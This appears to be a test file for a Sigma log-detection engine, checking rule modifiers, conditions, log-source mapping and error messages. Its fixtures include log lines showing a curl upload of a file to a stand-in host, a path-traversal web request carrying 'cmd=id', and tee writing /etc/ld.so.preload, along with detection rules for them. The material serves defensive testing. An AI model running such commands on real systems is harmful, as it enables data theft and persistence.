import { describe, expect, test } from "vitest";
import { decodeLines } from "../decode.ts";
import type { LogEvent } from "../event.ts";
import { parseEvents } from "../parse-events.ts";
import { ruleDocuments } from "./documents.ts";
import { SigmaError } from "./sigma-error.ts";
import { readSigmaRule } from "./sigma-rule.ts";
import { SigmaRules } from "./sigma-rules.ts";

const compileRegex = (source: string, flags: string) => {
  const pattern = new RegExp(source, flags);
  return (text: string) => pattern.test(text);
};
const event = (message: string, fields: Record<string, string> = {}): LogEvent => {
  const place = { firstLine: 1, lastLine: 1, offsetBytes: 0, lengthBytes: 0 };
  return { ...place, timestamp: null, level: null, message, fields, weight: 1 };
};
function eventOf(text: string): LogEvent {
  const lines = decodeLines(new TextEncoder().encode(`${text}\n`));
  const [first] = parseEvents(lines, { now: "2026-03-10T00:00:00Z", timeZone: "UTC", isFinal: true }).events;
  return first ?? event("");
}
const rule = (detection: object, logsource: object = { product: "linux" }) =>
  readSigmaRule({ title: "t", logsource, detection }, compileRegex);
const isMatch = (detection: object, of: LogEvent, logsource?: object): boolean =>
  new SigmaRules([rule(detection, logsource)]).match(of).length === 1;
/** A rule of one field, on an event that has it. */
const holds = (key: string, value: unknown, text: string): boolean =>
  isMatch({ sel: { [key]: value }, condition: "sel" }, event("x", { a: text, b: "other" }));
function reason(document: unknown): string {
  try {
    readSigmaRule(document, compileRegex);
  } catch (error) {
    if (error instanceof SigmaError) return error.message;
    throw error;
  }
  return "";
}

describe("values", () => {
  test.each([
    ["a", "Foo", "foo", true],
    ["a", "Foo", "foo bar", false],
    ["a", "f*r", "foo bar", true],
    ["a", "f?o", "foo", true],
    ["a", "f?o", "fo", false],
    ["a", "f*o*r", "foor", true],
    ["a", String.raw`f\*`, "f*", true],
    ["a", String.raw`f\*`, "foo", false],
    ["a", String.raw`f\?`, "f?", true],
    ["a", String.raw`c:\dir`, String.raw`c:\dir`, true],
    ["a", String.raw`c:\\*`, String.raw`c:\anything`, true],
    ["a", String.raw`c:\*`, String.raw`c:*`, true],
    ["a", "", "", true],
    ["a", "", "x", false],
    ["a|contains", "oo b", "foo bar", true],
    ["a|contains", "o?b", "foo bar", true],
    ["a|startswith", "foo", "foo bar", true],
    ["a|startswith", "oo", "foo bar", false],
    ["a|endswith", "BAR", "foo bar", true],
    ["a|endswith", "foo", "foo bar", false],
    ["a|cased", "Foo", "foo", false],
    ["a|contains|cased", "Foo", "a Foo", true],
    ["a", ["x", "foo"], "foo", true],
    ["a|contains|all", ["x", "foo"], "foo", false],
    ["a|contains|all", ["x", "foo"], "xfoo", true],
    ["a|re", "^f.o$", "foo", true],
    ["a|re", "F.O", "foo", false],
    ["a|re|i", "F.O", "foo", true],
    ["a", 7, "7", true],
    ["a", 7, "7.0", true],
    ["a", 7, "77", false],
    ["a", true, "true", true],
    ["a|gt", 7, "8", true],
    ["a|gt", 7, "7", false],
    ["a|gte", 7, "7", true],
    ["a|lt", 7, "6.5", true],
    ["a|lte", 7, "8", false],
    ["a|lt", 7, "few", false],
    ["a|exists", true, "x", true],
    ["a|exists", false, "x", false],
    ["c|exists", false, "x", true],
    ["c", null, "x", true],
    ["a", null, "x", false],
    ["a|neq", "x", "y", true],
    ["a|neq", "x", "x", false],
    ["a|fieldref", "b", "OTHER", true],
    ["a|fieldref", "b", "others", false],
    ["a|fieldref|startswith", "b", "others", true],
    ["a|fieldref", "c", "x", false],
    ["a|cidr", "192.168.0.0/16", "192.168.200.1", true],
    ["a|cidr", "192.168.0.0/17", "192.168.200.1", false],
    ["a|cidr", "2001:db8::/32", "2001:DB8:1::7", true],
    ["a|cidr", "2001:db8::/32", "2001:db9::7", false],
    ["a|cidr", "192.168.0.0/16", "192.168.0", false],
    ["a|windash|contains", "-enc", "run /ENC x", true],
    ["a|windash|contains", "-enc", "run \u2013enc x", true],
    ["a|windash|contains", "a-b", "a/b", false],
  ])("%s: %s on %s is %s", (key, value, text, expected) => {
    expect(holds(key, value, text)).toBe(expected);
  });

  // The digits are those of `printf '%s' … | base64` and of `iconv -t utf-16le | base64`.
  test.each([
    ["a|base64|contains", "foobar", "Zm9vYmFy"],
    ["a|base64offset|contains", "foobar", "eGZvb2Jhcg=="],
    ["a|base64offset|contains", "foobar", "eHhmb29iYXI="],
    ["a|base64offset|contains", "foobar", "eHh4Zm9vYmFy"],
    ["a|wide|base64offset|contains", "ping", "cABpAG4AZwA="],
    ["a|utf16le|base64|contains", "ping", "cABpAG4AZwA="],
    ["a|utf16be|base64|contains", "ping", "AHAAaQBuAGc="],
    ["a|utf16|base64|contains", "ping", "//5wAGkAbgBnAA=="],
  ])("%s: %s is found in its encoded form", (key, value, text) => {
    expect(holds(key, value, `echo ${text} | base64 -d`)).toBe(true);
    expect(holds(key, value, `echo ${value} | base64 -d`)).toBe(false);
  });

  test("a pattern that a naive matcher would try for ever ends at once", () => {
    expect(holds("a", `${"*a".repeat(200)}b`, "a".repeat(8_000))).toBe(false);
  });
});

const fourNames = (condition: string) => ({
  sel_a: ["alpha"],
  sel_b: ["beta"],
  other: ["gamma"],
  _hidden: ["delta"],
  condition,
});

describe("conditions", () => {
  test.each([
    ["sel_a and sel_b", "alpha", false],
    ["sel_a and sel_b", "alpha beta", true],
    ["sel_a or sel_b and other", "alpha", true],
    ["(sel_a or sel_b) and other", "alpha", false],
    ["not sel_a and sel_b", "beta", true],
    ["not (sel_a and sel_b)", "beta", true],
    ["not not sel_a", "alpha", true],
    ["1 of sel_*", "beta", true],
    ["any of sel_*", "gamma", false],
    ["all of sel_*", "alpha", false],
    ["all of sel_*", "alpha beta", true],
    ["1 of them", "gamma", true],
    ["1 of them", "delta", false],
    ["all of them", "alpha beta gamma", true],
    ["1 of _*", "delta", true],
    ["1 of sel_* and not other", "alpha gamma", false],
  ])("%s on %s is %s", (condition, text, expected) => {
    expect(isMatch(fourNames(condition), event(text))).toBe(expected);
  });

  test("a map asks for all, a list of maps for one, several conditions for one", () => {
    const both = { sel: { a: "x", b: "y" }, condition: "sel" };
    expect(isMatch(both, event("", { a: "x", b: "y" }))).toBe(true);
    expect(isMatch(both, event("", { a: "x", b: "z" }))).toBe(false);
    const either = { sel: [{ a: "x" }, { b: "y" }], condition: "sel" };
    expect(isMatch(either, event("", { a: "q", b: "y" }))).toBe(true);
    const several = { sel: { a: "x" }, more: { b: "y" }, condition: ["sel", "more"] };
    expect(isMatch(several, event("", { b: "y" }))).toBe(true);
  });

  test("keywords are looked for in the whole event, its host and program too", () => {
    expect(
      isMatch(
        { k: ["GATE1 sshd*Failed"], condition: "k" },
        eventOf("Mar  4 09:12:33 gate1 sshd[7]: Failed x"),
      ),
    ).toBe(true);
    expect(isMatch({ k: { "|all": ["alpha", "beta"] }, condition: "k" }, event("beta alpha"))).toBe(true);
    expect(isMatch({ k: { "|re": "al.ha" }, condition: "k" }, event("x alpha"))).toBe(true);
  });
});

describe("log sources", () => {
  const web = { category: "webserver" };
  const request = eventOf(
    '198.51.100.20 - bob [04/Mar/2026:09:12:33 +0000] "POST /a%2e%2e/x.php?cmd=id HTTP/1.1" 200 312 "http://ref.example/" "Mozilla/5.0 (X)"',
  );
  test.each([
    [{ "cs-method": "POST" }, true],
    [{ "cs-uri-query|contains": "cmd=" }, true],
    [{ "cs-uri-query|contains": "/x.php" }, true],
    [{ "cs-uri-query|contains": "/a../" }, true],
    [{ "cs-uri-stem|endswith": "/x.php" }, true],
    [{ "sc-status": 200 }, true],
    [{ "sc-status": 404 }, false],
    [{ "cs-user-agent|startswith": "mozilla" }, true],
    [{ "cs-referer|contains": "ref.example" }, true],
    [{ "c-ip|cidr": "198.51.100.0/24" }, true],
    [{ "cs-username": "bob" }, true],
  ])("a request is seen by W3C's names: %j", (sel, expected) => {
    expect(isMatch({ sel, condition: "sel" }, request, web)).toBe(expected);
    expect(isMatch({ sel, condition: "sel" }, eventOf("Mar  4 09:12:33 gate1 app[7]: POST cmd="), web)).toBe(
      false,
    );
  });

  const process = { product: "linux", category: "process_creation" };
  test.each([
    [
      "Mar  4 09:12:33 gate1 sudo:  kim : TTY=pts/1 ; PWD=/home/kim ; USER=root ; COMMAND=/usr/bin/curl -F f=@x http://h/",
    ],
    ['type=EXECVE msg=audit(1772615553.123:4321): argc=3 a0="curl" a1="-F" a2=663D407820687474703A2F2F682F'],
    ["Mar  4 09:12:33 gate1 CRON[7]: (root) CMD (/usr/bin/curl -F f=@x http://h/)"],
  ])("a command is seen as a process: %s", (line) => {
    const sel = { "Image|endswith": "/curl", "CommandLine|contains|all": ["-F ", "=@x http"] };
    expect(isMatch({ sel, condition: "sel" }, eventOf(line), process)).toBe(true);
    expect(isMatch({ sel: { "Image|endswith": "/wget" }, condition: "sel" }, eventOf(line), process)).toBe(
      false,
    );
  });

  test("records of one event of auditd are each seen by themselves", () => {
    const line = [
      'type=SYSCALL msg=audit(1772615553.123:4321): arch=c000003e syscall=59 success=yes exit=0 a0=55 comm="tee" exe="/usr/bin/tee" key="k"',
      'type=EXECVE msg=audit(1772615553.123:4321): argc=2 a0="tee" a1="/etc/ld.so.preload"',
      'type=CWD msg=audit(1772615553.123:4321): cwd="/etc"',
      'type=PATH msg=audit(1772615553.123:4321): item=0 name="ld.so.preload" inode=1 nametype=CREATE',
    ].join("\n");
    const audit = { product: "linux", service: "auditd" };
    const seen = eventOf(line);
    expect(isMatch({ sel: { type: "EXECVE", a0: "tee" }, condition: "sel" }, seen, audit)).toBe(true);
    expect(isMatch({ sel: { type: "PATH", name: "ld.so.preload" }, condition: "sel" }, seen, audit)).toBe(
      true,
    );
    expect(isMatch({ sel: { type: "PATH", a0: "tee" }, condition: "sel" }, seen, audit)).toBe(false);
    const file = { product: "linux", category: "file_event" };
    const sel = { TargetFilename: "/etc/ld.so.preload", "Image|endswith": "/tee" };
    expect(isMatch({ sel, condition: "sel" }, seen, file)).toBe(true);
  });

  test("a service is the program of its name", () => {
    const detection = { k: ["refused"], condition: "k" };
    const line = eventOf("Mar  4 09:12:33 gate1 sshd[7]: refused");
    expect(isMatch(detection, line, { product: "linux", service: "sshd" })).toBe(true);
    expect(isMatch(detection, line, { product: "linux", service: "auth" })).toBe(true);
    expect(isMatch(detection, line, { product: "linux", service: "vsftpd" })).toBe(false);
  });
});

describe("a rule that cannot be used says why", () => {
  const base = {
    title: "t",
    logsource: { product: "linux" },
    detection: { sel: { a: "x" }, condition: "sel" },
  };
  test.each([
    [null, "no map of title, logsource and detection"],
    [{ ...base, detection: undefined }, "no detection"],
    [{ ...base, title: "" }, "no title"],
    [{ ...base, logsource: { product: "windows" } }, "the log source windows is not read"],
    [
      { ...base, logsource: { product: "constructor", service: "toString" } },
      "the log source constructor / tostring is not read",
    ],
    [{ ...base, level: "grave" }, "the level is grave, none of informational, low, medium, high, critical"],
    [
      { ...base, detection: { sel: { "a|constructor": 1 }, condition: "sel" } },
      "a: the modifier constructor is not read",
    ],
    [{ ...base, detection: { sel: { "a|hour": 3 }, condition: "sel" } }, "a: the modifier hour is not read"],
    [{ ...base, detection: { sel: { "a|contains|re": "x" }, condition: "sel" } }, "a: re cannot stand there"],
    [
      { ...base, detection: { sel: { "a|cidr": "10.0.0.1/8" }, condition: "sel" } },
      "10.0.0.1/8 is no network",
    ],
    [
      { ...base, detection: { sel: { a: "x" }, condition: "sel | count() > 5" } },
      "counts over several events (| in the condition) are not read",
    ],
    [
      { ...base, detection: { sel: { a: "x" }, condition: "sel and" } },
      "the condition sel and has an end in place of a name",
    ],
    [{ ...base, detection: { sel: { a: "x" }, condition: "(sel" } }, "the condition (sel lacks a )"],
    [
      { ...base, detection: { sel: { a: "x" }, condition: "other" } },
      "the condition names other, which is not in the rule",
    ],
    [
      { ...base, detection: { sel: { a: "x" }, condition: "1 of no_*" } },
      "no detection is named as no_* says",
    ],
    [{ ...base, detection: { sel: { a: "x" } } }, "no condition"],
    [{ ...base, correlation: {} }, "rules that correlate others are not read"],
  ])("%j", (document, expected) => {
    expect(reason(document)).toBe(expected);
  });

  test("an expression that is none is named", () => {
    expect(reason({ ...base, detection: { sel: { "a|re": "(" }, condition: "sel" } })).toContain(
      "the expression ( is not read",
    );
  });
});

test("what a rule says of itself is kept, its level becomes a severity", () => {
  const read = readSigmaRule(
    {
      title: "Shell",
      id: "7f2d3a5e-0000-4000-8000-000000000001",
      description: "d",
      author: "kim",
      level: "critical",
      tags: ["attack.execution", "attack.t1059.004", "cve.2021-44228"],
      falsepositives: ["Backups"],
      references: ["https://example.org/"],
      logsource: { product: "linux" },
      detection: { k: ["x"], condition: "k" },
    },
    compileRegex,
  );
  expect(read).toMatchObject({
    id: "7f2d3a5e-0000-4000-8000-000000000001",
    severity: "HIGH",
    techniques: ["T1059.004"],
    falsePositives: ["Backups"],
    author: "kim",
  });
});

test("global documents are laid under those that follow, until a reset", () => {
  expect(
    ruleDocuments([
      { action: "global", title: "t", detection: { condition: "sel" } },
      { detection: { sel: 1 } },
      { action: "repeat", level: "low" },
      { action: "reset" },
      null,
      { title: "u" },
    ]),
  ).toEqual([
    { title: "t", detection: { condition: "sel", sel: 1 } },
    { title: "t", detection: { condition: "sel", sel: 1 }, level: "low" },
    { title: "u" },
  ]);
});

test("asking each rule by itself gives what asking all at once gives", () => {
  const rules = [
    rule({ k: ["alpha"], condition: "k" }),
    rule({ k: ["beta"], condition: "not k" }),
    rule({ k: { a: 7 }, condition: "k" }),
    rule({ k: ["a?pha", "be*a"], condition: "k" }),
  ].map((one, index) => ({ ...one, id: String(index) }));
  const all = new SigmaRules(rules);
  for (const of of [event("alpha"), event("beta"), event("ALPHA beta"), event("", { a: "7" })])
    expect(all.match(of)).toEqual(rules.filter((one) => new SigmaRules([one]).match(of).length > 0));
});
